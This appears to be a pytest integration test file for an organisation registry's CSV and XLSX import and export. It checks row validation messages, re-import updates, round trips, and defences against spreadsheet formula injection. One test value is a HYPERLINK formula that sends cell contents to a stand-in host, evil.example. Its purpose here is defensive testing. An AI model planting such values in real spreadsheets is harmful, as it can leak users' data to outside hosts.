"""Organisation files: all or nothing, every bad row reported, re-import updates, round trip."""

import csv
import io

import openpyxl
import pytest
import sqlalchemy as sa
from sqlalchemy.orm import Session

from clusterbridge.db.models import Organisation
from clusterbridge.domain.enums import OrgType, TechnologyDirection
from clusterbridge.domain.errors import InputIssue, InvalidInputError
from clusterbridge.services.registry import (
    ImportSummary,
    export_organisations,
    import_organisations,
)
from clusterbridge.services.workbooks import TableFormat
from tests.factories.organisations import make_organisation

pytestmark = [pytest.mark.integration, pytest.mark.db]

GOOD = (
    "pic,name,country,nuts,type,is_sme,ecosystems,technologies_offered,clusters\n"
    "111111111,Sofia Robotics,BG,BG411,sme,yes,digital; electronics,robotics; welding,222222222\n"
    ",Atelier Textile,France,FR101,sme,no,textile,,\n"
)


CLUSTER = "pic,name,country,nuts,type\n222222222,Cluster Two,DE,DE212,cluster_organisation\n"


def _count(session: Session) -> int:
    return session.scalar(sa.select(sa.func.count()).select_from(Organisation)) or 0


def _import(session: Session, text: str) -> ImportSummary:
    return import_organisations(
        session, text.encode(), file_format=TableFormat.CSV, source="orgs.csv"
    )


def test_import_creates_organisations_with_lists_and_clusters(session: Session) -> None:
    make_organisation(session, name="Cluster Two", pic="222222222")

    summary = _import(session, GOOD)

    assert summary == ImportSummary(created=2, updated=0, unchanged=0)
    sofia = session.scalars(sa.select(Organisation).where(Organisation.pic == "111111111")).one()
    assert (sofia.type, sofia.is_sme, sofia.country) == (OrgType.SME, True, "BG")


def test_import_codes_a_critical_raw_material_typed_in_words(session: Session) -> None:
    text = "name,country,technologies_offered,technologies_needed\nMine Co,DE,Cobalt; welding,lithium\n"

    _import(session, text)

    mine = session.scalars(sa.select(Organisation).where(Organisation.name == "Mine Co")).one()
    assert sorted((t.direction, t.label, t.code) for t in mine.technologies) == [
        (TechnologyDirection.NEEDED, "lithium", "crm-lithium"),
        (TechnologyDirection.OFFERED, "Cobalt", "crm-cobalt"),
        (TechnologyDirection.OFFERED, "welding", None),
    ]


def test_import_with_bad_rows_reports_each_and_writes_nothing(session: Session) -> None:
    text = (
        "name,country,nuts,pic,clusters\n"
        "Good One,DE,DE212,,\n"
        "Bad Region,BG,DE212,,\n"
        ",DE,,12,\n"
        "Not A Cluster Member,DE,,,333333333\n"
    )

    with pytest.raises(InvalidInputError) as caught:
        _import(session, text)

    assert caught.value.issues == (
        InputIssue("orgs.csv, line 3", "nuts", "DE212 is in DE, not in BG"),
        InputIssue("orgs.csv, line 4", "pic", '"12" is not a PIC: a PIC has exactly 9 digits'),
        InputIssue("orgs.csv, line 4", "name", "is required"),
        InputIssue("orgs.csv, line 5", "clusters", "no organisation 333333333"),
    )
    assert _count(session) == 0


def _table_file(rows: list[list[str]], file_format: TableFormat) -> bytes:
    if file_format is TableFormat.CSV:
        stream = io.StringIO(newline="")
        csv.writer(stream).writerows(rows)
        return stream.getvalue().encode()
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row or [None])  # type: ignore[union-attr]
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("file_format", [TableFormat.CSV, TableFormat.XLSX])
def test_a_blank_name_and_a_bad_value_name_their_line_and_column_in_either_format(
    session: Session, file_format: TableFormat
) -> None:
    # A blank name said "must not be empty"; every other required value "is required". In a
    # workbook the row is the sheet's, blank rows counted, as the spreadsheet shows it (it was
    # called "line 4", which a spreadsheet does not show).
    rows = [["name", "country", "type"], ["Good", "DE", "sme"], [], ["", "DE", "sme"]]
    content = _table_file([*rows, ["Bad Type", "", "startup"]], file_format)
    source = f"orgs.{file_format.value}"
    unit = {TableFormat.CSV: "line", TableFormat.XLSX: "row"}[file_format]

    with pytest.raises(InvalidInputError) as caught:
        import_organisations(session, content, file_format=file_format, source=source)

    assert [str(issue) for issue in caught.value.issues] == [
        f"{source}, {unit} 4, name: is required",
        f'{source}, {unit} 5, type: "startup" is not one of cluster_organisation, cluster_network, '
        "business_network, sme, large_enterprise, technology_centre, research_organisation, "
        "university, public_body, other, natural_person",
        f"{source}, {unit} 5, country: is required",
    ]
    assert _count(session) == 0


def test_a_row_with_values_beyond_the_header_is_refused(session: Session) -> None:
    # A comma not in quotes splits a name in two: the extra value was dropped without a word.
    text = "name,country,type\nFoo, Bar GmbH,DE,sme\nGood,DE,sme,\n"

    with pytest.raises(InvalidInputError) as caught:
        _import(session, text)

    assert caught.value.issues == (
        InputIssue(
            "orgs.csv, line 2",
            "",
            'has 4 values but the header names 3 columns (the last: "sme"): in a CSV file, '
            "a value that holds a comma must be in double quotes",
        ),
    )
    assert _count(session) == 0


def test_a_workbook_row_with_values_beyond_its_headings_names_their_columns(
    session: Session,
) -> None:
    # A workbook has no commas to quote: its message spoke of a CSV file's commas.
    rows = [
        ["name", "country", "type"],
        ["Alpha", "DE", "sme"],
        ["Beta", "FR", "sme", "", "Paris"],
        ["Gamma", "IT", "sme", "note", "", "", "", "Rome"],
    ]

    with pytest.raises(InvalidInputError) as caught:
        import_organisations(
            session, _table_file(rows, TableFormat.XLSX), file_format=TableFormat.XLSX,
            source="o.xlsx",
        )  # fmt: skip

    assert [str(issue) for issue in caught.value.issues] == [
        'o.xlsx, row 3: has a value in column E ("Paris"), which has no heading',
        'o.xlsx, row 4: has values in columns D ("note") and H ("Rome"), which have no heading',
    ]
    assert _count(session) == 0


def test_import_missing_and_unknown_columns_are_reported(session: Session) -> None:
    with pytest.raises(InvalidInputError) as caught:
        _import(session, "name,colour\nX,red\n")

    assert caught.value.issues == (
        InputIssue("orgs.csv, line 1", "country", "the column is missing"),
        InputIssue("orgs.csv, line 1", "colour", "is not a known column"),
    )


def test_reimport_updates_by_pic_and_by_name_and_country(session: Session) -> None:
    make_organisation(session, name="Cluster Two", pic="222222222")
    _import(session, GOOD)
    changed = GOOD.replace("BG411", "BG412").replace(
        "Atelier Textile,France,FR101", "ATELIER  textile,FR,FR102"
    )

    summary = _import(session, changed)

    assert summary == ImportSummary(created=0, updated=2, unchanged=0)
    assert _count(session) == 3
    atelier = session.scalars(
        sa.select(Organisation).where(Organisation.name_key == "atelier textile")
    ).one()
    assert (atelier.name, atelier.nuts) == ("ATELIER textile", "FR102")


def test_same_organisation_twice_in_a_file_is_refused(session: Session) -> None:
    with pytest.raises(InvalidInputError) as caught:
        _import(session, "name,country\nAlpha,DE\nALPHA,Germany\n")

    assert caught.value.issues == (
        InputIssue("orgs.csv, line 3", "name", "the same organisation as line 2"),
    )


def test_a_workbook_names_its_rows_as_the_spreadsheet_shows_them(session: Session) -> None:
    # Every issue of a workbook said "line N", which a spreadsheet does not show.
    rows = [
        ["name", "country", "clusters", "colour"],
        ["Alpha", "DE", "", ""],
        ["ALPHA", "Germany", "333333333", ""],
        ["Beta", "DE", "", "", "extra"],
    ]
    header_only = _table_file([["name", "colour"]], TableFormat.XLSX)

    with pytest.raises(InvalidInputError) as bad_header:
        import_organisations(session, header_only, file_format=TableFormat.XLSX, source="o.xlsx")
    with pytest.raises(InvalidInputError) as bad_rows:
        import_organisations(
            session,
            _table_file([rows[0][:3], *(r[:3] for r in rows[1:3]), rows[3]], TableFormat.XLSX),
            file_format=TableFormat.XLSX,
            source="o.xlsx",
        )

    assert [str(issue) for issue in bad_header.value.issues] == [
        "o.xlsx, row 1, country: the column is missing",
        "o.xlsx, row 1, colour: is not a known column",
    ]
    assert [str(issue) for issue in bad_rows.value.issues] == [
        'o.xlsx, row 4: has a value in column E ("extra"), which has no heading',
        "o.xlsx, row 3, name: the same organisation as row 2",
        "o.xlsx, row 3, clusters: no organisation 333333333",
    ]
    assert _count(session) == 0


@pytest.mark.parametrize("file_format", [TableFormat.CSV, TableFormat.XLSX])
def test_a_website_given_as_a_bare_domain_is_imported_with_https(
    session: Session, file_format: TableFormat
) -> None:
    # "samco.ie" was refused: "is not a web address starting with http:// or https://".
    good = [["name", "country", "website"], ["Samco", "IE", "samco.ie"], ["W", "IE", "www.w.ie"]]
    bad = [*good, ["Garbage", "IE", "samco"]]
    unit = {TableFormat.CSV: "line", TableFormat.XLSX: "row"}[file_format]

    with pytest.raises(InvalidInputError) as caught:
        import_organisations(session, _table_file(bad, file_format), file_format=file_format)
    import_organisations(session, _table_file(good, file_format), file_format=file_format)

    assert caught.value.issues == (
        InputIssue(
            f"The file, {unit} 4",
            "website",
            '"samco" is not a website; give an http(s) address or a domain like example.org',
        ),
    )
    assert sorted(session.scalars(sa.select(Organisation.website))) == [
        "https://samco.ie",
        "https://www.w.ie",
    ]


def test_a_long_name_and_a_blank_one_are_no_duplicates_but_each_refused(
    session: Session,
) -> None:
    # Both rows lost their name to its issue, and then matched as "the same organisation".
    text = f"name,country\n{'A' * 1000},DE\n,DE\n"

    with pytest.raises(InvalidInputError) as caught:
        _import(session, text)

    assert caught.value.issues == (
        InputIssue("orgs.csv, line 2", "name", "must be at most 300 characters, not 1,000"),
        InputIssue("orgs.csv, line 3", "name", "is required"),
    )


@pytest.mark.parametrize("text", ["name,country\n", "name,country\n,\n \n"])
def test_a_file_with_the_header_alone_is_refused(session: Session, text: str) -> None:
    with pytest.raises(InvalidInputError) as caught:
        _import(session, text)

    assert (caught.value.summary, caught.value.issues) == (
        "orgs.csv has problems; nothing was imported",
        (InputIssue("orgs.csv", "", "the file has no rows"),),
    )


def test_a_cell_over_the_csv_limit_names_its_line_column_and_the_limit(
    session: Session,
) -> None:
    huge = "x" * (2 * 1024 * 1024)
    text = f'name,country,description\nAlpha,DE,short\nBeta,"DE","a ""quoted"", {huge}"\n'

    with pytest.raises(InvalidInputError) as caught:
        import_organisations(session, text.encode(), file_format=TableFormat.CSV, source="huge.csv")

    assert (caught.value.summary, caught.value.issues) == (
        "huge.csv is not valid",
        (
            InputIssue(
                "huge.csv, line 3",
                "description",
                "is longer than 131,072 characters, the most a CSV cell may hold",
            ),
        ),
    )


@pytest.mark.parametrize("file_format", [TableFormat.CSV, TableFormat.XLSX])
def test_export_then_import_changes_nothing(session: Session, file_format: TableFormat) -> None:
    _import(session, CLUSTER)
    _import(session, GOOD)

    exported = export_organisations(session, file_format=file_format)
    summary = import_organisations(session, exported, file_format=file_format)

    assert summary == ImportSummary(created=0, updated=0, unchanged=3)
    assert export_organisations(session, file_format=TableFormat.CSV) == export_organisations(
        session, file_format=TableFormat.CSV
    )


def test_export_csv_has_documented_header_and_cells(session: Session) -> None:
    make_organisation(session, name="Cluster Two", pic="222222222")
    _import(session, GOOD)

    lines = export_organisations(session, file_format=TableFormat.CSV).decode().splitlines()

    assert lines[0] == (
        "pic,name,short_name,type,is_sme,sme_profile,country,nuts,city,latitude,longitude,website,"
        "email,legal_entity,eccp_registered,description,ecosystems,technologies_offered,"
        "technologies_needed,clusters,category_2021_2027,category_2014_2020,source"
    )
    assert lines[2] == (
        "111111111,Sofia Robotics,,sme,yes,,BG,BG411,,,,,,,,,digital; electronics,"
        "robotics; welding,,222222222,transition,less_developed,import"
    )


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _hostile_registry(session: Session) -> None:
    make_organisation(session, name=HOSTILE, pic="333333333")
    make_organisation(session, name="'t Hooft Engineering", pic="444444444")
    make_organisation(session, name="Twin Labs", pic="555555555")
    make_organisation(session, name="Twin Labs", pic="666666666")
    make_organisation(session, name="Twin Labs", country="FR", nuts="FR101")
    make_organisation(session, name="Twin Labs", country="BE", nuts="BE100")
    carol = make_organisation(session, name="+Carol & Co", pic="777777777")
    carol.short_name = "-CAROL-"
    carol.description = "@attention\tand -5 more"
    carol.latitude = -3.5
    session.flush()
    # An import derives the region categories the factory leaves out.
    settle = export_organisations(session, file_format=TableFormat.XLSX)
    import_organisations(session, settle, file_format=TableFormat.XLSX)


def test_a_csv_export_writes_no_cell_as_a_formula(session: Session) -> None:
    _hostile_registry(session)

    exported = export_organisations(session, file_format=TableFormat.CSV).decode()
    cells = list(csv.reader(io.StringIO(exported, newline="")))
    names = sorted(row[1] for row in cells[1:])

    assert names == sorted(
        ["'" + HOSTILE, "''t Hooft Engineering", "'+Carol & Co", *["Twin Labs"] * 4]
    )
    carol = next(row for row in cells if row[0] == "777777777")
    assert (carol[2], carol[9], carol[15]) == ("'-CAROL-", "-3.5", "'@attention\tand -5 more")


def test_an_xlsx_export_holds_text_cells_never_formulas(session: Session) -> None:
    _hostile_registry(session)

    exported = export_organisations(session, file_format=TableFormat.XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).worksheets[0]
    names = {cell.value: cell.data_type for cell in sheet["B"][1:]}

    assert names[HOSTILE] == "s"
    assert set(names.values()) == {"s"}


@pytest.mark.parametrize("file_format", [TableFormat.CSV, TableFormat.XLSX])
def test_hostile_names_export_and_import_back_unchanged(
    session: Session, file_format: TableFormat
) -> None:
    _hostile_registry(session)
    before = export_organisations(session, file_format=TableFormat.CSV)

    exported = export_organisations(session, file_format=file_format)
    summary = import_organisations(session, exported, file_format=file_format)

    assert summary == ImportSummary(created=0, updated=0, unchanged=7)
    assert export_organisations(session, file_format=TableFormat.CSV) == before
